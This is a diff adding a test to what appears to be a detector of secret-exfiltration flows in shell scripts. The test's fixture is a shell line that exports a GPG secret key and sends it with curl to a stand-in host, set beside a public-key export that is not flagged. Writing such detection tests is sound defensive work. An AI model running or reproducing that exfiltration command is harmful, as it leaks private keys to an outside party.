@@ -159,6 +159,18 @@ def test_a_flow_through_files_staged_in_a_folder_then_archived() -> None:
     assert not flows(honest.lines)
 
 
+def test_an_exported_secret_key_is_a_source() -> None:
+    script = fold_shell(
+        'k=$(gpg --armor --export-secret-keys "$ID")\ncurl -s -d "$k" https://x.example.net/u\n'
+    )
+    (flow,) = flows(script.lines)
+    assert (flow.source_line, flow.sink_line) == (1, 2)
+    public = fold_shell(
+        'k=$(gpg --armor --export "$ID")\ncurl -s -d "$k" https://x.example.net/u\n'
+    )
+    assert not flows(public.lines)
+
+
 def test_a_flow_through_a_powershell_function_and_a_webhook() -> None:
     script = fold_script(
         "function Get-Stuff {\n"
